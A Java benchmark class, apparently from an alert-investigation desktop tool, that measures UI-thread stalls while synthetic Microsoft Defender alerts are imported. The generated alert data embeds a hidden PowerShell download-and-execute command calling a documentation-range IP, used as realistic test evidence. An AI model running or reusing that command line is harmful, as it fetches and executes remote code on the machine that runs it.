package dupin.ui;

import dupin.service.CaseSession;
import dupin.service.Console;
import dupin.service.Progress;
import dupin.ui.fx.Theme;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import javafx.application.Platform;
import javafx.scene.Scene;
import javafx.stage.Stage;

/// Measures how long the screen's thread waits while a thousand alerts are investigated under an open window: a task that
/// is sent every two milliseconds notes how long it waited. Three times a thousand, the first with cold code. Run by hand; it
/// asserts nothing.
public final class StallMeasure {
    private static final int ALERTS = 1_000;

    private StallMeasure() {}

    public static void main(String[] args) throws Exception {
        Path data = Files.createTempDirectory("stall");
        var started = new CountDownLatch(1);
        Platform.startup(started::countDown);
        started.await();
        int workers =
                args.length > 0
                        ? Integer.parseInt(args[0])
                        : Math.max(1, Runtime.getRuntime().availableProcessors() - 1);
        var console = new Console(data, OpenSample.CLOCK, workers);
        CaseSession session = console.open(data.resolve("stall.dupin"), Progress.NONE);
        var shown = new CountDownLatch(1);
        Platform.runLater(() -> {
            var workbench = new Workbench(OpenSample.places(data), console);
            var scene = new Scene(workbench.root(), 1440, 900);
            Theme.DARK.applyTo(scene);
            var stage = new Stage();
            stage.setScene(scene);
            stage.show();
            workbench.show(session);
            shown.countDown();
        });
        shown.await();
        Thread.sleep(3_000);
        List<Long> idle = beat(() -> Thread.sleep(3_000));
        print("idle", idle);
        for (int round = 0; round < 3; round++) {
            Path export = data.resolve("alerts-" + round + ".ndjson");
            write(export, round * ALERTS);
            long begin = System.nanoTime();
            List<Long> busy =
                    beat(() -> {
                        session.imports()
                                .commit(
                                        session.imports().plan(List.of(export), Progress.NONE),
                                        "analyst",
                                        Progress.NONE);
                        session.awaitIdle();
                    });
            System.out.printf(
                    "%d alerts, %d investigations in the case, %.1f s%n",
                    session.desk().status().alerts(),
                    session.desk().investigations().size(),
                    (System.nanoTime() - begin) / 1e9);
            print(round == 0 ? "cold" : "warm " + round, busy);
        }
        session.close();
        System.exit(0);
    }

    private interface Work {
        void run() throws Exception;
    }

    /// Milliseconds × 1000 between turns of the screen's thread while the work runs elsewhere.
    private static List<Long> beat(Work work) throws Exception {
        var gaps = Collections.synchronizedList(new ArrayList<Long>());
        var on = new AtomicBoolean(true);
        var last = new AtomicLong(System.nanoTime());
        Thread pulse =
                Thread.ofPlatform()
                        .daemon()
                        .start(() -> {
                            while (on.get()) {
                                var turn = new CountDownLatch(1);
                                long asked = System.nanoTime();
                                Platform.runLater(() -> {
                                    gaps.add((System.nanoTime() - asked) / 1_000);
                                    last.set(System.nanoTime());
                                    turn.countDown();
                                });
                                try {
                                    turn.await();
                                    Thread.sleep(2);
                                } catch (InterruptedException _) {
                                    return;
                                }
                            }
                        });
        work.run();
        on.set(false);
        pulse.join();
        return List.copyOf(gaps);
    }

    private static void print(String name, List<Long> gaps) {
        List<Long> sorted = gaps.stream().sorted().toList();
        System.out.printf(
                "%-14s turns %6d  p50 %.1f ms  p99 %.1f ms  p99.9 %.1f ms  max %.1f ms  over 50 ms: %d%n",
                name,
                sorted.size(),
                at(sorted, 0.5),
                at(sorted, 0.99),
                at(sorted, 0.999),
                at(sorted, 1),
                sorted.stream().filter(g -> g > 50_000).count());
    }

    private static double at(List<Long> sorted, double share) {
        return sorted.get((int) Math.min(sorted.size() - 1L, Math.round(share * sorted.size()))) / 1000.0;
    }

    private static void write(Path file, int first) throws IOException {
        var lines = new ArrayList<String>();
        Instant start = Instant.parse("2026-11-18T06:00:00Z");
        for (int i = first; i < first + ALERTS; i++) {
            int incident = i / 4;
            String host = "ws-%04d".formatted(incident);
            lines.add(
                    """
                    {"@odata.type":"#microsoft.graph.security.alert","id":"da%d","incidentId":"%d","title":"Suspicious script %d","severity":"medium","status":"new","category":"Execution","serviceSource":"microsoftDefenderForEndpoint","createdDateTime":"%s","firstActivityDateTime":"%s","evidence":[{"@odata.type":"#microsoft.graph.security.deviceEvidence","deviceDnsName":"%s","mdeDeviceId":"%040x","verdict":"suspicious"},{"@odata.type":"#microsoft.graph.security.processEvidence","processId":%d,"processCreationDateTime":"%s","processCommandLine":"powershell.exe -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://198.51.100.%d/a')","mdeDeviceId":"%040x","imageFile":{"fileName":"powershell.exe","filePath":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0","sha256":"%064x"}},{"@odata.type":"#microsoft.graph.security.fileEvidence","mdeDeviceId":"%040x","fileDetails":{"fileName":"x%d.exe","filePath":"C:\\\\Users\\\\u\\\\AppData\\\\Local\\\\Temp","sha256":"%064x"}}]}\
                    """
                            .formatted(
                                    i,
                                    incident,
                                    i,
                                    start.plusSeconds(i * 30L),
                                    start.plusSeconds(i * 30L),
                                    host,
                                    incident + 1,
                                    4000 + i,
                                    start.plusSeconds(i * 30L),
                                    i % 250,
                                    incident + 1,
                                    77,
                                    incident + 1,
                                    i,
                                    1000 + i));
        }
        Files.write(file, lines);
    }
}
